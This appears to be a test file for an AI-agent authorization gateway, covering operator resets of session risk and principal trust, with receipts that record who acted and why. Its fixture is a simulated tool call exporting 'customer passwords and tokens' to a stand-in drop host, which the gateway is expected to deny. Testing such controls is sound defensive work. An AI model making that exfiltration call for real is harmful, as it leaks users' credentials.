// Pardons: the risk of a session, a session, the trust of a principal. Each is a receipt with the operator and the reason.

import { signDelegation, toBase64 } from '@tollgate/evidence'
import { describe, expect, it } from 'vitest'
import { registerDelegation } from '../../src/admin/delegate.ts'
import { closeSession, resetSession, resetTrust, type PardonOrder } from '../../src/admin.ts'
import { createRig, fixedKey, ORIGIN, START, type Rig } from '../rig.ts'

const POLICY = `
principals: { "agent:*": { tier: admin } }
tools:
  data/export: { effect: send }
  fs/read: { effect: read, destinations: none }
  fs/write: { effect: write, destinations: none }
rules: [{ id: all, allow: "*" }]
gates:
  egress: { allow: ["*"] }
  trust: {}
`
const HOSTILE = {
  tool: 'data/export',
  args: { what: 'customer passwords and tokens', to: 'https://drop.example/upload' },
  session_id: 's1',
}
const READ = { tool: 'fs/read', args: { path: 'notes.txt' }, session_id: 's1' }
const WRITE = { tool: 'fs/write', args: { path: 'notes.txt' }, session_id: 's2' }
const WHO: PardonOrder = {
  tenant: 'default',
  principal: 'agent:ci',
  by: 'user:olga',
  because: 'The export was asked for.',
}
const S1 = { ...WHO, session: 's1' }

async function risky(): Promise<Rig> {
  const rig = await createRig({ policy: POLICY })
  for (let i = 0; i < 40 && (await rig.authorize(HOSTILE)).decided.verdict === 'ALLOW'; i++);
  expect(rig.last('decision').reason_code).toBe('SESSION_RISK_MEMORY_DENY')
  return rig
}

describe('a session above the threshold', () => {
  it('reports its score, the threshold and the axis that raised it', async () => {
    const rig = await risky()
    const { decided } = await rig.authorize(READ)
    expect(decided).toMatchObject({ reason: 'SESSION_RISK_MEMORY_DENY', approval: undefined })
    expect(decided.detail).toMatch(/^risk score 0\.\d{4}, threshold 0\.3800, raised by exfiltration$/)
  })

  it('costs its principal trust only once, so other sessions can write', async () => {
    const rig = await risky()
    for (let i = 0; i < 20; i++) await rig.authorize(READ)
    expect(rig.last('decision').trust).toBeUndefined()
    rig.host.advance(24 * 3_600_000)
    expect((await rig.authorize(WRITE)).decided.verdict).toBe('ALLOW')
  })

  it('is reset with its share of the principal’s risk, with the operator and the reason in the receipt', async () => {
    const rig = await risky()
    const { id } = await resetSession(rig.kernel, S1)
    const receipt = rig.last('session')
    expect(receipt).toMatchObject({
      op: 'reset',
      session: 's1',
      principal: 'agent:ci',
      by: WHO.by,
      because: WHO.because,
    })
    expect(id).toMatch(/^[0-9a-f]{64}$/)
    expect((await rig.authorize(READ)).decided.verdict).toBe('ALLOW')
    expect(rig.last('decision')).toMatchObject({
      trajectory_risk_score: '0.0000',
      state_hash: receipt.next_state_hash,
    })
    expect((await rig.authorize({ ...READ, session_id: 's2' })).decided.verdict).toBe('ALLOW')
    expect(rig.last('decision').trajectory_risk_score).toBe('0.0000')
  })

  it('stays reset after a restart, and gains risk again with new calls', async () => {
    const rig = await risky()
    await resetSession(rig.kernel, S1)
    await rig.reopen()
    expect((await rig.authorize(READ)).decided.verdict).toBe('ALLOW')
    let passed = 0
    while (passed < 40 && (await rig.authorize(HOSTILE)).decided.verdict === 'ALLOW') passed++
    expect(passed).toBeLessThan(8)
  })

  it('subtracts only its own share: other sessions still count', async () => {
    const rig = await createRig({ policy: POLICY })
    await rig.authorize({ ...HOSTILE, session_id: 'other' })
    await rig.authorize(HOSTILE)
    await resetSession(rig.kernel, S1)
    await rig.authorize({ ...READ, session_id: 's3' })
    const left = Number(rig.last('decision').trajectory_risk_score)
    expect(left).toBeGreaterThan(0)
    const alone = await createRig({ policy: POLICY })
    await alone.authorize({ ...HOSTILE, session_id: 'other' })
    await alone.authorize({ ...READ, session_id: 's3' })
    expect(left).toBe(Number(alone.last('decision').trajectory_risk_score))
  })

  it('subtracts its share from the root delegator, too', async () => {
    const key = await fixedKey('planner')
    const lead = `principals:\n  "agent:lead": { tier: admin, key: "${toBase64(key.publicKey.bytes)}" }\n  "agent:*": { tier: admin }`
    const rig = await createRig({
      policy: POLICY.replace('principals: { "agent:*": { tier: admin } }', lead),
    })
    const { envelope } = await signDelegation(
      {
        ...{
          v: 1,
          ledger: ORIGIN,
          tenant: 'default',
          delegator: 'agent:lead',
          delegate: 'agent:ci',
          tools: ['*'],
        },
        ...{ until: new Date(START + 3_600_000).toISOString(), depth: 0, parent: null, nonce: 'n-1' },
      },
      key,
    )
    const by = { tenant: 'default', by: 'user:olga' }
    const { delegation } = await registerDelegation(rig.kernel, envelope, by)
    for (let i = 0; i < 3; i++) await rig.authorize({ ...HOSTILE, delegation })
    const leadReads = async (session_id: string): Promise<number> => {
      const caller = { tenant: 'default', principal: 'agent:lead' }
      await rig.authorize({ ...READ, session_id, caller })
      return Number(rig.last('decision').trajectory_risk_score)
    }
    expect(await leadReads('l1')).toBeGreaterThan(0)
    await resetSession(rig.kernel, { ...S1, root: 'agent:lead' })
    expect(await leadReads('l2')).toBe(0)
  })

  it('is removed when closed; its principal keeps its own risk', async () => {
    const rig = await risky()
    await closeSession(rig.kernel, S1)
    expect(rig.last('session')).toMatchObject({ op: 'close', by: WHO.by, because: WHO.because })
    await rig.authorize(READ)
    expect(Number(rig.last('decision').trajectory_risk_score)).toBeGreaterThan(0)
    expect(rig.last('decision').session.seq).toBeGreaterThan(0)
  })
})

describe('trust', () => {
  it('that was lost is restored by a reset, also after a restart', async () => {
    const rig = await createRig({
      policy: POLICY.replace('trust: {}', 'trust: { deltas: { denied: -400 } }'),
    })
    await rig.authorize({ tool: 'nothing/known', args: {} })
    expect((await rig.authorize(WRITE)).decided.reason).toBe('TRUST_INSUFFICIENT')
    await resetTrust(rig.kernel, WHO)
    expect(rig.last('session')).toMatchObject({
      op: 'trust',
      principal: 'agent:ci',
      trust: '500.0000',
      by: WHO.by,
    })
    await rig.reopen()
    expect((await rig.authorize(WRITE)).decided.verdict).toBe('ALLOW')
  })

  it('is not reset if the policy has no `trust` section', async () => {
    const rig = await createRig({ policy: POLICY.replace('  trust: {}\n', '') })
    await expect(resetTrust(rig.kernel, WHO)).rejects.toThrow('the policy has no `trust` section')
  })
})

describe('a reason', () => {
  const PARDONS = {
    resetSession: (rig: Rig, because: string) => resetSession(rig.kernel, { ...S1, because }),
    closeSession: (rig: Rig, because: string) => closeSession(rig.kernel, { ...S1, because }),
    resetTrust: (rig: Rig, because: string) => resetTrust(rig.kernel, { ...WHO, because }),
  }
  it.each(Object.keys(PARDONS) as (keyof typeof PARDONS)[])(
    'of `%s` must be text without a secret',
    async (name) => {
      const rig = await createRig({ policy: POLICY })
      await rig.authorize(READ)
      for (const [because, says] of [
        ['', 'the reason is missing'],
        ['  ', 'the reason is missing'],
        ['x'.repeat(501), 'has 501 characters'],
        ['the key was AKIAIOSFODNN7EXAMPLQ', 'seems to contain a secret'],
      ] as const)
        await expect(PARDONS[name](rig, because)).rejects.toThrow(says)
      await PARDONS[name](rig, 'x'.repeat(500))
    },
  )

  it('does not help for an unknown session', async () => {
    const rig = await createRig({ policy: POLICY })
    await expect(resetSession(rig.kernel, S1)).rejects.toThrow('this principal has no such session')
    await expect(closeSession(rig.kernel, S1)).rejects.toThrow('this principal has no such session')
  })
})
